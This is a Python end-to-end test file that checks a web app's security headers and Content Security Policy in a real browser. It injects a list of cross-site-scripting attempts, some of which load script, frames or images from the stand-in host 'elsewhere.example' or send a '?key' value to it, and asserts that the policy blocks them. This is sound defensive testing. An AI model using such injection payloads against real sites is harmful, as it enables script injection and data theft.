"""What a browser is told of each answer, over a real connection, and what it then refuses to do."""

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from playwright.sync_api import Browser, Page

from api.headers import HEADERS, PAGE_HEADERS
from tests.e2e.conftest import ROOT

pytestmark = [pytest.mark.e2e, pytest.mark.one_engine]

PAGES = {"/app/": "#bars li", "/": ".opblock"}
"""The pages, and what is there once one is complete."""

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event => violations.push(event.effectiveDirective));
"""

ATTACK = """
const element = (name, properties) =>
    document.body.appendChild(Object.assign(document.createElement(name), properties));
const elsewhere = "https://elsewhere.example/";
const attacks = [
    () => element("script").append("window.broken = 'inline code'"),
    () => element("div", {innerHTML: "<img src='data:,' onerror='window.broken = 1'>"}),
    () => element("a").setAttribute("onclick", "window.broken = 1"),
    () => element("script", {src: elsewhere}),
    () => eval("window.broken = 'code in a string'"),
    () => element("style", {textContent: "body { display: none }"}),
    () => element("iframe", {src: elsewhere}),
    () => element("object", {data: elsewhere}),
    () => element("img", {src: elsewhere + "?key"}),
    () => fetch(elsewhere).catch(() => {}),
    () => element("base", {href: elsewhere}),
    () => element("form", {action: elsewhere}).submit(),
];
for (const attack of attacks) try { attack() } catch (error) { violations.push(error.name) }
"""
"""What a script that got in might try; it runs by itself, as DevTools may do more than a page."""

STOPPED = {"style-src-elem", "frame-src", "img-src", "connect-src", "base-uri", "form-action"}
STOPPED_CODE = {
    "/app/": {"require-trusted-types-for", "TypeError", "EvalError"},
    "/": {"script-src-elem", "script-src-attr", "script-src", "EvalError", "object-src"},
}
"""By which directives, or with which errors, it is stopped; code by others on each page."""


@pytest.fixture(params=PAGES)
def page(request: pytest.FixtureRequest, browser: Browser, url: str) -> Iterator[Page]:
    """A page, complete, that remembers what its policy forbade."""
    page = browser.new_page()
    page.add_init_script(WATCH)
    page.goto(f"{url}{request.param}")
    page.wait_for_selector(PAGES[request.param])
    yield page
    page.close()


def violations(page: Page) -> Any:
    return page.evaluate("violations")


def test_a_page_needs_nothing_that_its_policy_forbids(page: Page) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.reload()
    page.wait_for_selector(PAGES[urlsplit(page.url).path])
    for control in page.locator(".opblock-summary-control").all():
        control.click()
    page.wait_for_load_state("networkidle")
    assert violations(page) == []
    assert [complaint for complaint in complaints if "Content Security Policy" in complaint] == []


def test_what_gets_into_a_page_can_do_nothing(page: Page) -> None:
    expected = STOPPED | STOPPED_CODE[urlsplit(page.url).path]
    page.evaluate(f"setTimeout(() => {{ {ATTACK} }})")
    deadline = time.monotonic() + 10
    while set(violations(page)) != expected and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert set(violations(page)) == expected
    assert page.evaluate("window.broken") is None
    assert page.locator("body").is_visible()


def test_no_other_page_shows_ours_in_a_frame(browser: Browser, url: str, tmp_path: Path) -> None:
    (tmp_path / "trap.html").write_text("".join(f'<iframe src="{url}{path}"></iframe>' for path in PAGES))
    page = browser.new_page()
    page.goto((tmp_path / "trap.html").as_uri())
    page.wait_for_load_state("networkidle")
    shown = [frame for frame in page.frames[1:] if frame.url.startswith(url)]
    page.close()
    assert shown == []


@pytest.mark.parametrize("path", ["/app/", "/", "/swagger.json", "/health/live", "/nowhere"])
def test_every_answer_bears_the_headers(url: str, path: str) -> None:
    answer = requests.get(f"{url}{path}", timeout=30)
    for name, value in HEADERS:
        own = (path in PAGES and name == "Content-Security-Policy") or (path == "/app/" and name == "Cache-Control")
        assert answer.headers[name] == value or own
    if path in PAGES:
        assert set(PAGE_HEADERS.items()) <= set(answer.headers.items())


def test_readings_and_errors_of_the_server_itself_bear_the_headers(url: str) -> None:
    picture = (ROOT / "samples" / "7.png").read_bytes()
    read = requests.post(f"{url}/model/predict", files={"image": picture}, timeout=30)
    refused = requests.get(f"{url}/", headers={"X-Large": "x" * 20_000}, timeout=30)
    assert (read.status_code, refused.status_code) == (200, 431)
    for answer in (read, refused):
        assert set(HEADERS) <= set(answer.headers.items())


def test_the_server_does_not_tell_its_version(url: str) -> None:
    assert not any(character.isdigit() for character in requests.get(url, timeout=30).headers.get("Server", ""))
